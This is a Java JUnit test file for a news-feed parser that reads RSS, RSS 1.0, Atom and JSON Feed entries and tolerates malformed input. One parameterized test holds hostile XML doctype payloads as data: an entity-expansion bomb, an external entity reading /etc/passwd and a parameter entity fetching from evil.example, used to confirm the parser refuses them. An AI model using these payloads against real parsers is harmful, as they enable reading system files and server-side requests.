package wellhead.indexer.capture;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import wellhead.story.Evidence;
import wellhead.story.Interval;

class FeedTest {
  private static final String ITEM =
      "<item><title>Refiners Wait</title><link>https://desk.example/1</link>"
          + "<pubDate>Fri, 03 Jul 2026 10:00:00 GMT</pubDate></item>";

  @Test
  void readsRss() {
    Entry entry = only(rss(ITEM));
    assertThat(entry.title()).isEqualTo("Refiners Wait");
    assertThat(entry.url()).isEqualTo("https://desk.example/1");
    assertThat(entry.published()).isEqualTo(Interval.at(Instant.parse("2026-07-03T10:00:00Z")));
    assertThat(entry.evidence()).isEqualTo(Evidence.MACHINE_READABLE);
    assertThat(entry.body()).isNull();
  }

  @Test
  void readsTheSourceOffTheFeedsHomePage() {
    assertThat(Read.text("a.xml", rss(ITEM)).captures().getFirst().ref().source())
        .isEqualTo("desk.example");
  }

  @Test
  void readsRssOne() {
    String feed =
        """
        <?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
        <channel rdf:about="https://desk.example/"><title>x</title><link>https://desk.example/</link></channel>
        <item rdf:about="https://desk.example/1"><title>Refiners Wait</title><link>https://desk.example/1</link>
        <dc:date>2026-07-03T10:00:00Z</dc:date><dc:creator>J. Doe</dc:creator></item></rdf:RDF>
        """;
    Entry entry = only(feed);
    assertThat(entry.published()).isEqualTo(Interval.at(Instant.parse("2026-07-03T10:00:00Z")));
    assertThat(entry.author()).isEqualTo("J. Doe");
  }

  @Test
  void readsAtomAndPrefersPublishedToUpdated() {
    String feed =
        """
        <?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><id>f</id>
        <updated>2026-07-04T00:00:00Z</updated><link href="https://desk.example/"/>
        <entry><title type="html">Oil &lt;b&gt;Up&lt;/b&gt;</title><id>1</id><link href="/1"/><author><name>A</name></author>
        <author><name>B</name></author><updated>2026-07-04T00:00:00Z</updated><published>2026-07-03T10:00:00Z</published>
        <content type="html">&lt;p&gt;One.&lt;/p&gt;&lt;p&gt;Two.&lt;/p&gt;</content></entry></feed>
        """;
    Entry entry = only(feed);
    assertThat(entry.title()).isEqualTo("Oil Up");
    assertThat(entry.url()).isEqualTo("https://desk.example/1");
    assertThat(entry.author()).isEqualTo("A, B");
    assertThat(entry.published()).isEqualTo(Interval.at(Instant.parse("2026-07-03T10:00:00Z")));
    assertThat(entry.body()).isEqualTo("One.\n\nTwo.");
  }

  @Test
  void readsJsonFeed() {
    String feed =
        """
        {"version":"https://jsonfeed.org/version/1.1","title":"x","home_page_url":"https://desk.example/",
         "items":[{"id":"1","title":"Refiners Wait","url":"/1","date_published":"2026-07-03T10:00:00Z",
         "content_html":"<p>One.</p><p>Two.</p>","authors":[{"name":"A"},{"name":"B"}]}]}
        """;
    Entry entry = only(feed);
    assertThat(entry.url()).isEqualTo("https://desk.example/1");
    assertThat(entry.author()).isEqualTo("A, B");
    assertThat(entry.body()).isEqualTo("One.\n\nTwo.");
    assertThat(entry.published()).isEqualTo(Interval.at(Instant.parse("2026-07-03T10:00:00Z")));
  }

  @Test
  void takesFullTextForTheBodyAndATeaserForNothing() {
    String full =
        ITEM.replace(
            "</item>",
            "<content:encoded><![CDATA[<p>One.</p><p>Two.</p>]]></content:encoded></item>");
    String teaser = ITEM.replace("</item>", "<description>Read on.</description></item>");
    assertThat(only(rss(full)).body()).isEqualTo("One.\n\nTwo.");
    assertThat(only(rss(teaser)).body()).isNull();
  }

  @Test
  void takesALongDescriptionOfSeveralParagraphsForTheStory() {
    String paragraph =
        "&lt;p&gt;" + "Crude stocks fell again last week. ".repeat(15) + "&lt;/p&gt;";
    String item =
        ITEM.replace("</item>", "<description>" + paragraph + paragraph + "</description></item>");
    assertThat(only(rss(item)).body()).contains("\n\n");
  }

  @Test
  void forgivesWhatFeedsGetWrong() {
    assertThat(
            only("\n " + rss(ITEM.replace("Refiners", "R&D&nbsp;Refiners &amp;amp; Co"))).title())
        .isEqualTo("R&D Refiners & Co Wait");
  }

  @Test
  void readsTheEntriesAroundTheDamage() {
    Read read = Read.text("a.xml", rss(ITEM + "<item><title>B</title><oops></item>" + ITEM));
    assertThat(read.entries()).extracting(Entry::line).containsExactly(1, 3);
    assertThat(read.causes()).containsExactly(Cause.BROKEN);
    String whole = rss(ITEM + ITEM);
    Read cut = Read.text("a.xml", whole.substring(0, whole.length() - 40));
    assertThat(cut.entries()).hasSize(1);
    assertThat(cut.causes()).containsExactly(Cause.BROKEN);
  }

  @Test
  void rejectsAnEntryWithoutATitleAndKeepsItsNeighbours() {
    Read read = Read.text("a.xml", rss("<item><link>https://desk.example/0</link></item>" + ITEM));
    assertThat(read.entries()).extracting(Entry::line).containsExactly(2);
    assertThat(read.causes()).containsExactly(Cause.BAD_FIELD);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!DOCTYPE rss [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>",
        "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE rss [<!ENTITY % x SYSTEM \"https://evil.example/x\"> %x;]>",
      })
  void refusesEntities(String doctype) {
    String feed = "<?xml version=\"1.0\"?>" + doctype + rss(ITEM.replace("Wait", "&b;"));
    assertThat(Read.text("a.xml", feed).causes()).containsExactly(Cause.ENTITIES);
  }

  @Test
  void readsPastADocumentTypeThatDeclaresNothing() {
    String feed = "<!DOCTYPE rss PUBLIC \"-//X//DTD RSS 0.91//EN\" \"https://x.example/rss.dtd\">";
    assertThat(only(feed + rss(ITEM)).title()).isEqualTo("Refiners Wait");
  }

  @Test
  void refusesAFeedThatIsNestedTooDeep() {
    String deep = "<x>".repeat(5_000) + "</x>".repeat(5_000);
    assertThat(Read.text("a.xml", rss(ITEM + deep)).causes()).containsExactly(Cause.TOO_DEEP);
  }

  private static Entry only(String feed) {
    Read read = Read.text("a.xml", feed);
    assertThat(read.rejections()).isEmpty();
    assertThat(read.entries()).hasSize(1);
    return read.entries().getFirst();
  }

  private static String rss(String items) {
    return "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel>"
        + "<title>x</title><link>https://desk.example/</link><description>d</description>"
        + items
        + "</channel></rss>";
  }
}
